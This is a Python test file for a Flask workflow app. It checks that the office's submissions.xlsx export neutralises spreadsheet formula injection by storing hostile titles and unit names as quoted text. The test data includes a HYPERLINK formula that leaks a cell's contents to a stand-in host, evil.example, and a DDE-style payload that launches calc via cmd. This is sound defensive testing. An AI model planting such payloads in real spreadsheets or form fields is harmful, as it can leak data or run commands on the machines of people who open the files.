"""Formula injection through the office's download (issue 15, finding 4): a title
written as `=HYPERLINK(…)` arrives in submissions.xlsx as text, not as a formula."""

from __future__ import annotations

import io

from flask import Flask
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from workflow import services
from workflow.accounts import set_password
from workflow.enums import ItemKind, Role

from ..factories import build_world
from ..reporting_portal import NOW
from .support import PASSWORD, login

TITLE = '=HYPERLINK("http://evil.example/?leak="&B3,"F1")'
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_submissions_download_holds_hostile_text_as_text(app: Flask) -> None:
    app.config["SANSHEN_CLOCK"] = lambda: NOW
    with app.app_context():
        session = app.extensions["sanshen.sessions"]()
        try:
            world = build_world(session, NOW)
            world.unit_a.name = UNIT
            item = services.create_item(
                session,
                actor=world.drafter,
                column_id=world.column.id,
                kind=ItemKind.ARTICLE,
                title=TITLE,
                now=NOW,
            ).value
            services.submit(
                session,
                actor=world.drafter,
                item_id=item.id,
                expected_version=item.version,
                now=NOW,
            )
            supervisor = world.user(Role.SUPERVISOR, "office")
            set_password(supervisor, PASSWORD)
            session.commit()
            login_name = supervisor.login
        finally:
            session.close()
    client = login(app, login_name)
    response = client.get("/office/scoreboard/submissions.xlsx?period=2026-11")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if not isinstance(cell, Cell):
                    continue
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in (TITLE, UNIT):
                    assert cell.data_type == "s" and cell.quotePrefix
                    seen.append(cell.value)
    assert TITLE in seen and UNIT in seen
